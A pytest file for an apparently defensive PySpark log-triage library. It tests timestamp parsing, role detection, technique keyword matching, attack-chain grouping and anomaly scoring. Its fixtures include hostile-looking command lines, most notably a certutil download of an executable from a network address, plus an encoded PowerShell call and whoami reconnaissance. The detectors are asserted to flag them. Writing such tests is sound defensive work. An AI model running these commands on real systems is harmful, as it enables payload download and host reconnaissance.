import math
import random
import re
from collections import defaultdict

import pytest
from pyspark.sql import functions as F

from logsift.functions import times, values
from logsift.functions.text import normalize_tokens, word_chunks
from logsift.operators import activity, anomalies, chains, documents, matching, roles, rollups, rules, timestamps, triage
from logsift.operators.rules import Condition, Role, Rule
from logsift.sources.tables import clean_headers, write_report
from logsift.spec import ColumnMeta


def log(spark, headers, rows):
    meta = clean_headers(headers)
    return spark.createDataFrame([(i, *r) for i, r in enumerate(rows, 1)], "row_num long, " + ", ".join(f"`{m.name}` string" for m in meta)), meta


def test_times_of_the_fixtures(spark):
    make = lambda *v: spark.createDataFrame(list(enumerate(v, 1)), "row_num long, t string")
    told = lambda df, **how: {r["row_num"]: (r["utc_text"], r["parse_status"]) for r in timestamps.normalize_timestamps(df, "t", **how).collect()}
    assert told(make("2026-01-01T02:30:00+02:00", "", "x")) == {1: ("2026-01-01T00:30:00.000Z", "explicit_offset")}
    naive = make("2026-01-01 02:30:00")
    with pytest.raises(timestamps.TimeError):
        told(naive)
    assert told(naive, tz="+02:00")[1] == ("2026-01-01T00:30:00.000Z", "naive_with_fixed_offset")
    assert told(naive, tz="GMT")[1][1] == "naive_confirmed_utc"
    assert told(make("03/14/2026 01:00", "03/04/2026 02:00"), tz="UTC")[2][0].startswith("2026-03-04T02")
    assert told(make("14/03/2026 01:00", "03/04/2026 02:00"), tz="UTC")[2][0].startswith("2026-04-03T02")
    for df, how in ((make("03/04/2026 02:00"), {}), (make("03/14/2026 01:00", "14/03/2026 01:00"), {}), (make("03/14/2026 01:00"), {"convention": "day_first"})):
        with pytest.raises(timestamps.TimeError):
            told(df, tz="UTC", **how)
    assert told(make("03/04/2026 02:00"), tz="UTC", convention="day_first")[1][0].startswith("2026-04-03")
    assert told(make("2026-07-01 12:00"), tz="Europe/Bucharest")[1] == ("2026-07-01T09:00:00.000Z", "naive_with_iana_timezone")
    for gap in ("2026-03-29 03:30:00", "2026-10-25 03:30:00"):
        with pytest.raises(timestamps.TimeError):
            told(make(gap), tz="Europe/Bucharest")


def test_kinds_of_times(spark):
    shown = {"": "blank", " ": "blank", "1700000000": "epoch", "1700000000123": "epoch", "17000": "invalid", "2026-01-01T00:00:00Z": "explicit_offset", "2026-01-01T00:00z": "explicit_offset", "2026/01/01 00:00:00.5 -05:30": "explicit_offset", "2026-01-01": "naive", "2026/1/2 3:04": "naive", "2026-02-30": "invalid", "03/04/2026": "naive", "31/31/2026": "invalid", "2026": "invalid", "2026/01/01T00:00": "invalid"}
    got = {r["v"]: r["k"] for r in spark.createDataFrame([(k,) for k in shown], "v string").select("v", times.classify(F.col("v")).alias("k")).collect()}
    assert got == shown
    assert [times.zone_seconds(z) for z in ("UTC", "z", "+02", "-0530", "UTC+2:00", "GMT-01:00", "+25", "Europe/Paris")] == [0, 0, 7200, -19800, 7200, -3600, None, None]
    df = spark.createDataFrame([(i, v) for i, v in enumerate(shown)], "row_num long, t string")
    found = timestamps.analyze_timestamps(df, "t").first()
    assert (found["blank_rows"], found["epoch_rows"], found["invalid_rows"], found["needs_timezone"], found["needs_date_convention"]) == (2, 2, 5, True, True)
    kinds = df.select("row_num", F.col("t").alias("source_text"), times.classify(F.col("t")).alias("kind"))
    assert {r["kind"]: r["samples"] for r in timestamps.samples(kinds, "kind", 1).collect()}["epoch"] == ["1700000000"]


def test_roles(spark):
    df, meta = log(spark, ["TimeGenerated", "Account", "ProcessCommandLine", "DeviceName", "SourceIP", "Message"], [("2026-01-01T00:00:00Z", "alice", 'powershell -enc "AAAA" /c run', "WS-1", "10.0.0.1", "a long line of evidence text here"), ("2026-01-01T00:00:01Z", "CORP\\bob", "cmd.exe /c whoami /all", "WS-2", "[::1]:443", "another long line of evidence text")])
    found = roles.detect_roles(df, meta)
    assert {r: found[r].column for r in ("timestamp", "user", "command_line", "host", "ip", "text_evidence")} == {"timestamp": "timegenerated", "user": "account", "command_line": "processcommandline", "host": "devicename", "ip": "sourceip", "text_evidence": "message"}
    assert len({r.column for r in found.values()}) == len(found)
    kept = roles.detect_roles(df, meta, {"user": Role("devicename", status="confirmed")})
    assert kept["user"].column == "devicename" and kept["user"].status == "confirmed"
    assert timestamps.rank_timestamp_columns(df, meta)[0][0] == "timegenerated"
    wide = roles.detect_roles(df, meta, wide=3)
    assert wide["command_line"].column == "processcommandline"


def test_values(spark):
    cases = {"1.2.3.4": True, "[::1]": True, "[::1]:443": False, "1.2.3.4:80": True, "fe80::1": True, "::ffff:1.2.3.4": True, "1:2:3:4:5:6:7:8": True, "01.2.3.4": False, "1::2::3": False, "12345::": False, "abc": False, "": False}
    df = spark.createDataFrame([(k,) for k in cases], "v string")
    assert {r["v"]: r["p"] for r in df.select("v", values.parse_ip(F.col("v")).isNotNull().alias("p")).collect()} == cases
    names = ["cmd.exe", 'C:\\x\\"a.dll', "alice", "alice@corp.org", "S-1-5-21-7", "host-1.corp", "a b", "/etc/passwd", "report.pdf", "powershell.exe -nop -c x"]
    c = F.col("v")
    got = {r["v"]: tuple(r)[1:] for r in spark.createDataFrame([(k,) for k in names], "v string").select("v", values.is_process_name_like(c), values.is_identity_like(c), values.is_host_like(c), values.is_file_like(c), values.is_command_line_like(c)).collect()}
    assert got["cmd.exe"] == (True, False, True, True, False)
    assert got["alice"] == (False, True, True, False, False) and got["alice@corp.org"][1] and got["S-1-5-21-7"][1]
    assert got["host-1.corp"] == (False, False, True, True, False) and got["a b"] == (False,) * 5
    assert got["/etc/passwd"] == (False, False, False, True, False) and got["powershell.exe -nop -c x"][4]


def test_ignore_rules(spark):
    df, meta = log(spark, ["ProcessName", "DstPort"], [("QualysAgent.exe", "1"), ("a.exe", "2"), ("MSEDGE_crashpad_handler.exe", "3"), (None, "4"), ("x" * 60 + "b.exe", "5")])
    every = [*rules.load_rules(), Rule("port", "Port", (Condition("equals_any", (" 5 ",), headers=("dst port",)), Condition("ends_with_any", ("B.EXE",), role="process_name"))), Rule("lost", "Lost", (Condition("equals_any", ("2",), headers=("dstport",)), Condition("equals_any", ("x",), role="host")))]
    assert rules.ignored_rows(df, every, meta, {"process_name": Role("processname")}).count() == 0  # only suggested
    told = {"process_name": Role("processname", status="confirmed")}
    got = {r["row_num"]: (r["rule_id"], r["matched_value"]) for r in rules.ignored_rows(df, every, meta, told).collect()}
    assert got == {1: ("qualys-agent", "QualysAgent.exe"), 3: ("edge-crashpad", "MSEDGE_crashpad_handler.exe"), 5: ("port", "5")}
    assert rules.suppress(df, rules.ignored_rows(df, every, meta, told)).count() == 2
    for bad in (lambda: Condition("matches", ("x",), role="a"), lambda: Condition("equals_any", (), role="a"), lambda: Condition("equals_any", ("x",)), lambda: Rule("r", "r", ())):
        with pytest.raises(ValueError):
            bad()


def library(*keywords, tactics=(("TA9999", "Test"),), rule=None):
    return matching.Library(({"techniqueId": "T9999", "name": "Test: thing", "tactics": [{"id": a, "name": b} for a, b in tactics], "aliases": ["other name"], "keywords": [{"id": f"k{i}", "pattern": p, "match": m, "score": 50} for i, (p, m) in enumerate(keywords)]},), (rule,) if rule else ())


def test_keywords(spark):
    df, _ = log(spark, ["CommandLine", "Host"], [("run cat now", "x"), ("concatenate", "CAT"), ("concatenate cat", ""), ("ÉCAT", "é cat é"), (None, "abc.def")])
    hits = lambda lib: sorted((r["row_num"], r["column_name"], r["keyword"]) for r in matching.match_keywords(df, lib, ["commandline", "host"]).collect())
    # three letters are a whole word, and only the first place in a cell is looked at
    assert hits(library(("cat", "substring"))) == [(1, "commandline", "cat"), (2, "host", "cat"), (4, "host", "cat")]
    assert hits(library(("caten", "substring"), (".", "substring"))) == [(2, "commandline", "caten"), (3, "commandline", "caten"), (5, "host", ".")]
    both = matching.match_keywords(df, library(("cat", "word"), tactics=(("A", "a"), ("B", "b"))), ["host"])
    assert both.count() == 4
    assert matching.technique_counts(both).first()["matches"] == 2 and {r["matches"] for r in matching.tactic_counts(both).collect()} == {2}


def test_behaviour_rule(spark):
    df, meta = log(spark, ["ProcessName", "DstPort"], [("chrome.exe", "445"), ("chrome.exe", "443"), ("svchost.exe", "445")])
    told = {"process_name": Role("processname")}
    found = matching.match_rules(df, matching.load_library(), meta, told).collect()
    assert [(r["row_num"], r["technique_id"], r["keyword"], r["column_name"]) for r in found] == [(1, "T1021.002", "chrome.exe", "processname")]
    assert matching.match_rules(df, library(("x", "word")), meta, told) is None


def test_library_files(spark, tmp_path):
    (tmp_path / "bad.json").write_text('{"schemaVersion": 1, "libraryId": "x", "techniques": [{"techniqueId": "T", "name": "n", "tactics": [{"id": "a", "name": "b"}], "keywords": [{"id": "k", "pattern": "p", "score": 101}]}]}')
    (tmp_path / "good.json").write_text('{"schemaVersion": 1, "libraryId": "x", "techniques": [{"techniqueId": "TX", "name": "n", "tactics": [{"id": "a", "name": "b"}], "aliases": [], "keywords": [{"id": "k", "pattern": "p", "match": "word", "columns": [], "score": 100}]}]}')
    lib = matching.load_library(str(tmp_path / "bad.json"), str(tmp_path / "good.json"), str(tmp_path / "none.json"))
    assert len(lib.problems) == 2 and lib.techniques[-1]["techniqueId"] == "TX"
    found = matching.library_tables(spark, lib)
    assert found["patterns"].count() == sum(len(t["keywords"]) for t in lib.techniques) and found["rules"].count() == 2
    df, _ = log(spark, ["Text"], [("we saw OTHER-name here",), ("test",), ("thing of it",)])
    assert sorted(r["row_num"] for r in matching.tag_text(df, "text", library(("zz", "word"))).collect()) == [1, 2, 3]


def plain_chains(events, window=3_600_000, least=3):
    out, by = [], defaultdict(list)
    for host, epoch, row, tactic in events:
        by[host].append((epoch, row, tactic))
    for host, rows in by.items():
        rows.sort()
        i = 0
        while i < len(rows):
            j = i
            while j < len(rows) and rows[j][0] <= rows[i][0] + window:
                j += 1
            kinds = {t for _, _, t in rows[i:j]}
            if len(kinds) >= least:
                out.append((host, len(kinds), j - i, rows[i][0], rows[j - 1][0]))
                i = j
            else:
                i += 1
    return sorted(out, key=str)


@pytest.mark.parametrize("seed", [1, 2])
def test_chains_by_time(spark, seed):
    rng = random.Random(seed)
    rows = [(i, rng.choice(["a", "b", None, " b "]), rng.choice("wxyz"), rng.randrange(0, 200) * 300_000) for i in range(1, 301)]
    df = spark.createDataFrame([(i, h) for i, h, _, _ in rows], "row_num long, host string")
    matches = spark.createDataFrame([(i, t, t, t, t, 40) for i, _, t, _ in rows], "row_num long, tactic_id string, tactic_name string, technique_id string, technique_name string, score int")
    times_ = spark.createDataFrame([(i, e) for i, _, _, e in rows if i % 50], "row_num long, epoch_ms long")
    found = chains.attack_chains(matches, df, times_, "host", keep=None, cap=None).collect()
    got = sorted(((r["host"], r["tactic_count"], r["event_count"], r["first_epoch_ms"], r["last_epoch_ms"]) for r in found), key=str)
    assert got == plain_chains([(h.strip() if h else None, e, i, t) for i, h, t, e in rows if i % 50])
    assert all(r["score"] == min(100, 40 + 10 * (r["tactic_count"] - 1)) and len(r["sample_rows"]) == min(50, r["rows"]) for r in found)
    ranked = chains.attack_chains(matches, df, times_, "host").orderBy("chain_id").collect()
    assert [r["chain_id"] for r in ranked] == list(range(1, len(found) + 1))
    assert [(-r["tactic_count"], -r["score"], -r["event_count"], r["first_row"]) for r in ranked] == sorted((-r["tactic_count"], -r["score"], -r["event_count"], r["first_row"]) for r in ranked)


def test_chains_without_time(spark):
    df, _ = log(spark, ["CommandLine", "Hostname"], [("alphaindicator", "SRV-A"), ("betaindicator", "SRV-A"), ("gammaindicator", "SRV-A"), ("alphaindicator", "SRV-B")])
    lib = matching.Library(tuple({"techniqueId": f"T{k}", "name": k, "tactics": [{"id": f"TA-{k}", "name": k}], "aliases": [], "keywords": [{"id": k, "pattern": f"{k}indicator", "match": "word", "score": 60}]} for k in ("alpha", "beta", "gamma")), ())
    (only,) = chains.attack_chains(matching.match_keywords(df, lib, ["commandline"]), df, None, "hostname").collect()
    assert (only["host"], only["tactic_count"], only["sample_rows"], only["first_epoch_ms"], only["score"]) == ("SRV-A", 3, [1, 2, 3], None, 80)
    story = rollups.attack_story(chains.attack_chains(matching.match_keywords(df, lib, ["commandline"]), df, None, "hostname"), matching.match_keywords(df, lib, ["commandline"]), df, "hostname", None).collect()
    assert [(r["seq"], r["row_num"]) for r in story] == [(0, 1), (1, 1), (2, 2), (3, 3)]


def test_triage_without_caps_uses_all_rows(spark):
    df = spark.range(1, 2601).selectExpr("id AS row_num", "CASE WHEN id <= 2500 THEN 'p' || id ELSE 'common' END AS process", "'h' AS host", "CASE WHEN id > 600 THEN '10.0.0.' || id % 200 END AS address")
    meta = [ColumnMeta(n, n) for n in ("process", "host", "address")]
    told = {"process_name": Role("process", status="confirmed"), "host": Role("host", status="confirmed")}
    matches = spark.range(1, 2601).selectExpr("id AS row_num", "CASE WHEN id > 2590 THEN 't' || id % 3 ELSE 't' END AS tactic_id", "'n' AS tactic_name", "'k' AS technique_id", "'n' AS technique_name", "'w' AS keyword", "40 AS score")
    run = lambda **how: triage.triage(df, meta, decided=told, matches=matches, **how)
    whole, part = run(cap=None, sample_rows=None), run(cap=2500)
    assert whole.anomalies.filter("category = 'rare_process'").count() == 2500
    assert part.anomalies.filter("category = 'rare_process'").count() == 2000
    assert (whole.chains.count(), part.chains.count()) == (1, 0)
    assert whole.roles.get("ip") is not None and part.roles.get("ip") is None


def test_activity(spark):
    label = lambda df, meta, told={}: [r["category"] for r in activity.classify_activity(df, meta, told).orderBy("row_num").collect()]  # noqa: E731, B006
    assert label(*log(spark, ["EventID", "Message"], [(i, "") for i in ("4624", "4720", "4688.0", "5145", "4698", "9999")])) == ["authentication", "account_management", "process", "file", "scheduled_task", "other"]
    assert label(*log(spark, ["OperationName"], [(v,) for v in ("UserLoggedIn", "FileDownloaded", "Add member to role.", "Send message", "New-InboxRule created for mailbox", "SomethingUnrecognized")])) == ["authentication", "file", "account_management", "email", "email", "other"]
    df, meta = log(spark, ["CommandLine", "SourceIP", "Note"], [("x", None, None), (None, "1.2.3.4", "n"), (None, " ", "n")])
    assert label(df, [ColumnMeta("commandline", "Cmd"), *meta[1:]], {"command_line": Role("commandline"), "ip": Role("sourceip")}) == ["process", "network", "other"]
    df, meta = log(spark, ["Message"], [("logon " + "x" * 200,), ("logon a",), ("logon a",), ("",)])
    out = activity.classify_activity(df, meta, {})
    assert out.filter("row_num = 1").first()["detail"] == ("logon " + "x" * 200)[:120] + "…"
    assert activity.activity_summary(out).first()["top_details"][0].asDict() == {"detail": "logon a", "rows": 2}


def test_cell_anomalies(spark):
    blob = "QWxhZGRpbjpvcGVuIHNlc2FtZQ" * 3
    rows = [("powershell -enc AAAA",), ("certutil -urlcache http://10.1.2.3/a.exe C:\\Users\\Public\\a.exe",), ("invoice.pdf.exe",), ("notepad.exe readme.txt",), ("svchost",), (f"echo {blob}",), ("x" * 400,), ("1.2.3.4. and 256.1.1.1 but a8.008.8.8b",), ("".join(chr(33 + i % 90) for i in range(120)),)]
    df, meta = log(spark, ["cmd"], rows)
    got = defaultdict(set)
    found = anomalies.cell_findings(df, meta, {"command_line": Role("cmd")}).collect()
    for r in found:
        got[r["row_num"]].add(r["category"])
    assert got[1] == {"encoded_blob"} and got[2] == {"lolbin", "suspicious_path", "url_in_command", "ip_in_command"} and got[3] == {"double_extension"}
    assert 4 not in got and 5 not in got and got[6] == {"encoded_blob"} and got[7] == {"long_command"} and got[9] >= {"high_entropy"}
    assert {r["reason"] for r in found if r["row_num"] == 8} == {"public address 8.8.8.8 in the command of 'cmd'"}
    text = "aabc" * 30
    bits = spark.createDataFrame([(text,)], "v string").select(anomalies.entropy(F.col("v"))).first()[0]
    assert bits == pytest.approx(-sum(p * math.log2(p) for p in (0.5, 0.25, 0.25)))


def test_no_cap_lifts_those_of_profiles_and_stories(spark):
    night = spark.range(1, 40_001).selectExpr("id AS row_num", "CASE WHEN id <= 3500 THEN 'p' || id ELSE 'common' END AS process", "CASE WHEN id <= 10000 THEN 'u' || (id % 1000) ELSE 'alice' END AS account", "'h' || CASE WHEN id <= 10000 THEN id ELSE 0 END AS host")
    meta = [ColumnMeta(n, n) for n in ("process", "account", "host")]
    told = {"process_name": Role("process", status="confirmed"), "user": Role("account"), "host": Role("host")}
    times_ = night.selectExpr("row_num", "cast(CASE WHEN row_num <= 4500 THEN 1 ELSE 8 END * 3600000 AS bigint) AS epoch_ms", "'t' AS utc_text")
    count = lambda **how: {r["category"]: r["findings"] for r in anomalies.anomaly_summary(anomalies.scan_anomalies(night, meta, told, times_, **how)).collect()}
    assert count(cap=None) == {"rare_process": 3500, "rare_user_host": 10_000, "off_hours": 4500}
    assert count() == {"rare_process": 2000, "rare_user_host": 2000, "off_hours": 3000}
    matches = spark.range(1, 1201).selectExpr("id AS row_num", "'t' || id % 3 AS tactic_id", "'n' AS tactic_name", "'k' || id % 3 AS technique_id", "'n' AS technique_name", "'w' AS keyword", "40 AS score")
    df = spark.range(1, 1201).selectExpr("id AS row_num", "'H' AS host")
    found = chains.attack_chains(matches, df, None, "host")
    assert rollups.attack_story(found, matches, df, "host", None, most=None).count() == 1201
    assert rollups.attack_story(found, matches, df, "host", None).count() == 501


def test_rare_and_off_hours(spark):
    rows = [("svchost.exe", "alice", "WS-1")] * 120 + [("xyzdumper.exe", "alice", "DC-9")] + [("QualysAgent.exe", "alice", "DC-9")] * 6
    df, meta = log(spark, ["Process", "Account", "Host"], rows)
    told = {"process_name": Role("process", status="confirmed"), "user": Role("account"), "host": Role("host")}
    ignored = rules.ignored_rows(df, rules.load_rules(), meta, told)
    found = {(r["row_num"], r["category"]) for r in anomalies.scan_anomalies(df, meta, told, None, ignored).collect()}
    assert found == {(121, "rare_process"), (121, "rare_user_host")}
    assert anomalies.rare_process(df.limit(99), "process", "Process").count() == 0
    hour = 3_600_000
    many = spark.range(1, 101).selectExpr("id AS row_num", f"cast(CASE WHEN id = 50 THEN {hour} ELSE {8 * hour} END AS bigint) AS epoch_ms", "'t' AS utc_text")
    night = spark.range(101, 121).selectExpr("id AS row_num", f"cast({hour} AS bigint) AS epoch_ms", "'t' AS utc_text")
    base = spark.range(1, 121).selectExpr("id AS row_num")
    assert anomalies.off_hours(base, many.union(night)).count() == 0
    assert [r["row_num"] for r in anomalies.off_hours(base.filter("row_num <= 100"), many.union(night)).collect()] == [50]
    top = anomalies.top_rows(anomalies.scan_anomalies(df, meta, told, None, ignored)).first()
    assert (top["row_num"], top["score"], top["categories"]) == (121, 65, ["rare_process", "rare_user_host"])


def test_documents(spark):
    long = " ".join(f"alpha{chr(97 + i % 26)}{chr(97 + i // 26)}" for i in range(300))
    df, _ = log(spark, ["Event GUID", "Message", "Evidence Description"], [(f"{i:08d}-0000-0000-0000-000000000000", f"{long} {i}", "found by rule") for i in range(32)])
    meta = [ColumnMeta("event_guid", "Event GUID"), ColumnMeta("message", "Message"), ColumnMeta("evidence_description", "Evidence Description", "ip")]
    modes = documents.column_modes(df, meta)
    assert modes == {"event_guid": "exact_only", "message": "text", "evidence_description": "text"}
    found, doc_rows = documents.build_documents(df, meta, modes=modes)
    kinds = defaultdict(int)
    for r in found.collect():
        kinds[r["kind"]] += 1
    assert kinds == {"cell": 2, "cell_chunk": 3} and doc_rows.count() == 5 * 32
    again, _ = documents.build_documents(df, meta, modes=modes, stored=found)
    assert again.count() == 0
    few, rows = documents.build_documents(df, meta, modes=modes, limits=documents.Limits(mappings=80))
    seen = documents.coverage(df, meta, rows, modes).first()
    assert seen["mappings_seen"] == 160 and seen["mappings_written"] + seen["mappings_skipped"] == 160 and 0 < rows.count() < 160
    words = [f"w{i}" for i in range(150)]
    chunks = spark.createDataFrame([(" ".join(words),), ("a",), ("",)], "v string").select(word_chunks(F.col("v")).alias("c")).collect()
    assert [c.split() for c in chunks[0]["c"]] == [words[:72], words[60:132], words[120:150]] and chunks[1]["c"] == ["a"] and chunks[2]["c"] == []
    lines = {"from 10.0.0.1: user S-1-5-21-9 (a1b2c3d4e5f60718)": "from <ip>: user <sid> (<hash>)", "ID 12345678-1234-1234-1234-123456789abc X9Y10": "id <guid> x<number>y<number>", "[::1] a-b": "[::<number>] a-b"}
    got = {r["v"]: r["n"] for r in spark.createDataFrame([(k,) for k in lines], "v string").select("v", normalize_tokens(F.col("v")).alias("n")).collect()}
    assert got["from 10.0.0.1: user S-1-5-21-9 (a1b2c3d4e5f60718)"] == "from <ip>: user <sid> (<hash>)" and got["ID 12345678-1234-1234-1234-123456789abc X9Y10"] == "id <guid> x<number>y<number>"


def test_vectors(spark):
    docs = spark.createDataFrame([("a", [1.0, 0.0], "A"), ("b", [3.0, 4.0], "B"), ("c", [0.0, 2.0], "C"), ("d", [0.0, 0.0], "D")], "doc_key string, embedding array<float>, text string")
    rows = spark.createDataFrame([("a", 1), ("b", 1), ("b", 2), ("c", 3)], "doc_key string, row_num long")
    top = documents.vector_top_k(docs, [1.0, 0.0], 2, 0.3)
    assert [(r["doc_key"], r["score"]) for r in top.collect()] == [("a", 1.0), ("b", 0.6)]
    assert {r["row_num"] for r in documents.select_rows(top, rows).collect()} == {1, 2}
    assert {r["row_num"]: r["reasons"] for r in documents.row_reasons(top, rows, docs).collect()} == {1: ["semantic 1.000: A", "semantic 0.600: B"], 2: ["semantic 0.600: B"]}
    frozen = documents.freeze(top, rows)
    one = documents.selection_digest(frozen).first()
    assert one == documents.selection_digest(documents.freeze(top, rows.repartition(3))).first() != documents.selection_digest(documents.freeze(top, rows.filter("row_num <> 2"))).first()
    told = documents.disclosure(documents.select_rows(top, rows), spark.range(3), documents.vector_scores(docs, [1.0, 0.0], 0.3), top).first()
    assert told["broad"] and not told["truncated"]


def test_rollups(spark):
    df, meta = log(spark, ["SourceIP", "User", "Host", "UserAgent"], [("10.0.0.1", "Al", "h1", "Firefox/1"), ("'10.0.0.9:80'", "al", "h2", "Chrome/1 Edg/1"), ("104.16.1.1", "AL", "h1", "x"), ("8.8.8.8", "al", "", "Version/1 Safari/1"), ("[FE80::1]", "", "h3", "MSIE 6"), ("bad", None, "h3", None)])
    found = {r["ip"]: r for r in rollups.ip_rollup(df, "sourceip", rollups.cidr_ranges(spark)).collect()}
    assert set(found) == {"10.0.0.1", "10.0.0.9", "104.16.1.1", "8.8.8.8", "fe80::1"} and found["104.16.1.1"]["label"].startswith("Cloudflare") and found["fe80::1"]["version"] == 6
    groups = rollups.private_groups(rollups.ip_rollup(df, "sourceip", rollups.cidr_ranges(spark))).collect()
    assert [(r["network"], r["addresses"], r["rows"]) for r in groups] == [("10.0.0.0/24", 2, 2)]
    assert [tuple(r) for r in rollups.distinct_values(df, "user").collect()] == [("al", 4, 1)]
    assert {r["browser"] for r in rollups.browsers(df, rollups.user_agent_column(meta)).collect()} == {"Firefox", "Microsoft Edge", "Safari", "Internet Explorer"}
    hosts = {r["value"]: (r["rows"], r["others"], r["other_list"]) for r in rollups.associations(df, "host", "user").collect()}
    assert hosts == {"h1": (2, 2, "AL; Al"), "h2": (1, 1, "al"), "h3": (2, 0, "")}
    pairs, _ = log(spark, ["User", "Host"], [("a", h) for h in ("cc", "aa", "bb", "aa")])
    lists = [rollups.associations(pairs, "user", "host", most).first()["other_list"] for most in (10, 6, 1)]
    assert lists == ["aa; bb; cc", "aa; bb; ... (+1 more)", "... (+3 more)"]
    v6, _ = log(spark, ["Ip"], [("2001:DB8:0:0::1",), ("2001:db8::1",), ("[2001:0db8::0001]:443",), ("::ffff:1.2.3.4",)])
    assert {r["ip"]: r["rows"] for r in rollups.ip_rollup(v6, "ip", rollups.cidr_ranges(spark)).collect()}["2001:db8::1"] >= 2


def test_partners_fill_the_list_to_its_bytes(spark):
    pairs = spark.range(5000).select((F.col("id") + 1).alias("row_num"), F.lit("u").alias("user"), F.format_string("h%04d", "id").alias("host"))
    got = rollups.associations(pairs, "user", "host").first()
    shown = got["other_list"].split("; ")
    fit = (30_000 + 2) // 7
    assert shown[:-1] == [f"h{i:04d}" for i in range(fit)] and shown[-1] == f"... (+{5000 - fit} more)" and got["others"] == 5000


@pytest.mark.parametrize("adaptive", ["true", "false"])
def test_a_million_rows_are_numbered_without_gaps(spark, adaptive):
    from logsift.sources.tables import with_row_num

    was = spark.conf.get("spark.sql.adaptive.enabled")
    spark.conf.set("spark.sql.adaptive.enabled", adaptive)
    try:
        rows = spark.range(0, 1_200_000, 1, 7).select(F.xxhash64("id").alias("k"), "id")
        numbered = with_row_num(rows, "k")
        told = numbered.agg(F.count("*").alias("n"), F.count_distinct("row_num").alias("d"), F.min("row_num").alias("a"), F.max("row_num").alias("b")).first()
        assert tuple(told) == (1_200_000, 1_200_000, 1, 1_200_000)
        # in order: the keys of each hundredth are below those of the next
        parts = sorted(numbered.groupBy(F.floor((F.col("row_num") - 1) / 12_000).alias("p")).agg(F.min("k"), F.max("k")).collect())
        assert all(x[2] < y[1] for x, y in zip(parts, parts[1:]))
        # after a shuffle, without an order
        dealt = with_row_num(rows.repartition("k")).agg(F.count_distinct("row_num"), F.max("row_num")).first()
        assert tuple(dealt) == (1_200_000, 1_200_000)
    finally:
        spark.conf.set("spark.sql.adaptive.enabled", was)


def test_caps_of_documents_hold(spark):
    df = spark.range(3000).select((F.col("id") + 1).alias("row_num"), F.concat(F.lit("alert about "), F.translate(F.col("id").cast("string"), "0123456789", "abcdefghij")).alias("message"), F.lit("common words here").alias("detail"))
    meta = [ColumnMeta("message", "Message"), ColumnMeta("detail", "Detail")]
    modes = {"message": "text", "detail": "text"}
    limits = documents.Limits(documents=1000, mappings=2500)
    found, rows = documents.build_documents(df, meta, modes=modes, limits=limits)
    n, m = found.count(), rows.count()
    assert (n, m) == (1000, 2500) or (n == 1000 and m < 2500 and m >= n - 1)
    assert rows.join(found, "doc_key", "left_anti").count() == 0
    told = documents.coverage(df, meta, rows, modes, limits).first()
    assert (told["documents_seen"], told["mappings_seen"], told["mappings_written"], told["cells_truncated"], told["columns_omitted"], told["chunks_omitted"]) == (3001, 6000, m, 0, 0, 0)


def test_what_rows_leave_out_is_counted(spark):
    words = " ".join(f"word{chr(97 + i % 26)}" for i in range(400))
    df = spark.createDataFrame([(1, words, "short text", "more text"), (2, "x" * 20_000, "abc", "def")], "row_num long, a string, b string, c string")
    meta = [ColumnMeta(x, x) for x in "abc"]
    told = documents.left_out(df, meta, dict.fromkeys("abc", "text"), documents.Limits(primary_columns=2, extra_chunks=2)).first()
    # 400 words are seven chunks: one and two more are taken; the last column of two is always the third
    assert (told["cells_truncated"], told["columns_omitted"], told["chunks_omitted"]) == (1, 2, 4)


def test_chains_across_slices_are_those_of_a_plain_fold(spark):
    import random

    rng = random.Random(7)
    rows = [(i + 1, rng.choice(["h1", "h2", None]), rng.randrange(40 * 3_600_000), f"T{rng.randrange(5)}") for i in range(400)]
    df = spark.createDataFrame([(r, h) for r, h, _, _ in rows], "row_num long, host string")
    times = spark.createDataFrame([(r, t) for r, _, t, _ in rows], "row_num long, epoch_ms long")
    matches = spark.createDataFrame([(r, k, k, k, k, 50) for r, _, _, k in rows], "row_num long, tactic_id string, tactic_name string, technique_id string, technique_name string, score int")
    expected = set()
    for host in ("h1", "h2", None):
        own = sorted((t, r, k) for r, h, t, k in rows if h == host)
        i = 0
        while i < len(own):
            window = [x for x in own[i:] if x[0] <= own[i][0] + 3_600_000]
            if len({k for _, _, k in window}) >= 3:
                expected.add((host, own[i][0], window[-1][0], len(window)))
                i += len(window)
            else:
                i += 1
    got = chains.attack_chains(matches, df, times, "host", cap=None, keep=None).collect()
    assert {(r["host"], r["first_epoch_ms"], r["last_epoch_ms"], r["event_count"]) for r in got} == expected and len(expected) > 10


def test_one_host_is_dealt_to_many_tasks(spark):
    n = 200_000
    df = spark.range(n).select((F.col("id") + 1).alias("row_num"), F.lit("h").alias("host"))
    times = df.select("row_num", (F.col("row_num") * 60_000).alias("epoch_ms"))
    kind = F.concat(F.lit("T"), (F.col("row_num") % 4).cast("string"))
    matches = df.select("row_num", kind.alias("tactic_id"), kind.alias("tactic_name"), kind.alias("technique_id"), kind.alias("technique_name"), F.lit(9).alias("score"))
    events = chains._events(matches, df, "host", None).join(times, "row_num")
    ahead = chains._tactics_ahead(events, 3_600_000).withColumn("p", F.spark_partition_id())
    sizes = [r["count"] for r in ahead.groupBy("p").count().collect()]
    assert sum(sizes) == n and max(sizes) < 0.6 * n
    assert chains.attack_chains(matches, df, times, "host", cap=None, keep=None).count() == -(-n // 61)


def test_general_tells_every_section(spark):
    df, meta = log(spark, ["SourceIP", "User", "Host", "UserAgent"], [("10.0.0.1", "Al", "h1", "Firefox/1"), ("10.0.0.9", "al", "h2", "x"), ("8.8.8.8", "bo", "h1", "x")])
    by_role = {"ip": Role("sourceip"), "user": Role("user"), "host": Role("host")}
    got = {(r["section"], r["value"]): (r["item"], r["detail"], r["observed"], r["row_num"]) for r in rollups.general(df, meta, None, by_role).collect()}
    assert got == {
        ("Table", "3"): ("rows", "", 3, 1), ("Table", "4"): ("columns", "", 4, 1), ("Users", "Al"): ("user", "", 2, 1), ("Users", "bo"): ("user", "", 1, 3), ("Hosts", "h1"): ("host", "", 2, 1), ("Hosts", "h2"): ("host", "", 1, 2),
        ("Addresses", "8.8.8.8"): (got["Addresses", "8.8.8.8"][0], "IPv4", 1, 3), ("Private networks", "10.0.0.0/24"): ("/24", "2 addresses", 2, 1), ("Browsers", "Firefox"): ("browser", "", 1, 1),
        ("Hosts of users", "Al"): ("user", "h1", 1, 1), ("Hosts of users", "al"): ("user", "h2", 1, 2), ("Hosts of users", "bo"): ("user", "h1", 1, 3), ("Users of hosts", "h1"): ("host", "Al; bo", 2, 1), ("Users of hosts", "h2"): ("host", "al", 1, 2),
    }


def intrusion(spark, n=2000):
    """Working hours of five kinds of events, and an intrusion at night on one host."""
    day = F.lit(1_767_571_200) + (F.col("i") % 22) * 86_400 + 8 * 3600 + (F.col("i") * 37) % 36_000
    kind = F.col("i") % 5
